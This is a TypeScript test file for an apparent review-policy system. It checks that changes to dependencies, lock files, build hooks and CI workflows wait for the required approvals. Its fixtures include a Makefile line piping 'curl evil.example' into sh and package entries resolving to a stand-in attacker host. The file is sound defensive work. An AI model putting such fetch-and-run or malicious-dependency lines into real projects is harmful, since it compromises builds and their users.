/** Not the code is changed, but what it is built from: a dependency, a lock file, a hook of the build. */
import { expect, it } from "vitest";
import { shown } from "../stories/firm.ts";
import { type About, approve, propose, type Stage, state } from "./stage.ts";

export const about: About = {
  attack: "What the code is built from is changed instead: a dependency, a lock file, a hook.",
  defence:
    "Workflows, actions and the settings of update bots are always guarded; manifests and lock files where the policy names them.",
};

const dependency = '{ "dependencies": { "left-pad": "https://evil.example/x.tgz" } }\n';
const lock =
  '{ "packages": { "": {}, "node_modules/x": { "resolved": "https://evil.example" } } }\n';

export function attack(stage: Stage): void {
  it.each([
    ["package.json", dependency, "build"],
    ["services/pay/package-lock.json", lock, "build"],
    ["Makefile", "all:\n\tcurl evil.example | sh\n", "build"],
  ])("%s asks for the people that the policy names for it", async (path, content) => {
    const firm = stage();
    const branch = `built-${path.replaceAll(/\W/g, "-")}`;
    const { pull } = await propose(firm, "bob", branch, { files: { [path]: content } });
    expect((await shown(firm, pull))?.title).toBe("Waiting: 1 approval (build)");
    await approve(firm, pull, "erin");
    expect(await state(firm, pull)).toBe("success");
  });

  it.each([".github/workflows/release.yml", "tools/sign/action.yml", "renovate.json"])(
    "%s is guarded though no policy names it",
    async (path) => {
      const firm = stage();
      const branch = `built-${path.replaceAll(/\W/g, "-")}`;
      const files = { [path]: "run: curl evil.example\n" };
      const { pull } = await propose(firm, "bob", branch, { files });
      expect((await shown(firm, pull))?.title).toBe("Waiting: 2 approvals (guard)");
    },
  );

  it("what nothing is built from touches nothing", async () => {
    const firm = stage();
    const { pull } = await propose(firm, "bob", "not-built", {
      files: { "package.txt": "words\n" },
    });
    expect(await state(firm, pull)).toBe("success");
  });
}
